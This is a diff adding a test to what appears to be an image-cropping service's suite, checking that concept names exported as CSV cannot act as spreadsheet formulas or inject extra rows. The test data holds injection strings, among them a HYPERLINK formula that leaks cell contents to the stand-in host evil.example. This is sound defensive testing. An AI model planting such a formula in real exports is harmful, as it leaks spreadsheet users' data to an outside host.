@@ -232,3 +232,23 @@ def test_a_box_url_redirects_to_its_canonical_crop(nginx, standin):
     assert fetched(answer.headers["Location"]).size == (96, 96)
     unknown = requests.get(f"{nginx.url}/boxes/{UNKNOWN}.png", timeout=30)
     assert (unknown.status_code, unknown.json()["error"]["code"]) == (404, "box_not_found")
+
+
+# Concepts a hostile FathomNet could name: each would run as a formula in a spreadsheet, or (the last) start
+# a row of its own at its carriage return.
+FORMULA_CONCEPTS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open crop")', "+1+1", "-2+3", "@SUM(A1:A2)",
+                    "\t=1+1", "\r=1+1", "Aegina\r=HYPERLINK(1)"]
+
+
+def test_a_concept_csv_hands_a_spreadsheet_no_formula(nginx, standin):
+    for concept in FORMULA_CONCEPTS:
+        standin.add_box("framegrab-1", concept, 10, 12, 40, 30)
+    for concept in FORMULA_CONCEPTS:
+        as_csv = post(nginx, "/cropper-concept/", {"concept": concept}, headers={"Accept": "text/csv"})
+        assert as_csv.status_code == 200, as_csv.text
+        rows = list(csv.reader(io.StringIO(as_csv.text, newline="")))
+        assert len(rows) == 2, rows  # the header and the one crop: no row started inside a cell
+        url, label, box_uuid, image_uuid, *region = rows[1]
+        assert label == (concept if concept.startswith("A") else "'" + concept)
+        assert region == ["10", "12", "50", "42"]  # numbers are written as numbers
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
